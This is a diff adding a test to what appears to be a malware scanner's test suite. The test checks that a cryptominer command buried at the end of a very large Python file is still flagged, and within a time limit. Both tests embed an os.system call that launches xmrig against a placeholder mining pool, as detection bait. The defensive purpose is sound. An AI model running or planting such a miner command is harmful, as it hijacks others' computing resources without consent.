@@ -59,3 +59,12 @@ def test_huge_file_is_read_as_text_only_past_the_cap(engine):
     code = ("x = 1\n" * 500000) + "import os\nos.system('./xmrig -o stratum+tcp://pool.example.net:3333 -u w')\n"
     r = engine.scan_bytes(code.encode(), "big.py")
     assert r.error is None and r.verdict == "flag"
+
+
+def test_evidence_at_the_end_of_a_file_past_every_cap(engine):
+    line = "x = compute(a, b, 'some string literal here')\n"
+    code = line * (12_000_000 // len(line)) + "import os\nos.system('./xmrig -o stratum+tcp://pool.example.net:3333 -u w')\n"
+    t = time.process_time()
+    r = engine.scan_bytes(code.encode(), "huge.py")
+    assert time.process_time() - t < 60
+    assert r.error is None and "NBW201" in {f.rule_id for f in r.findings}
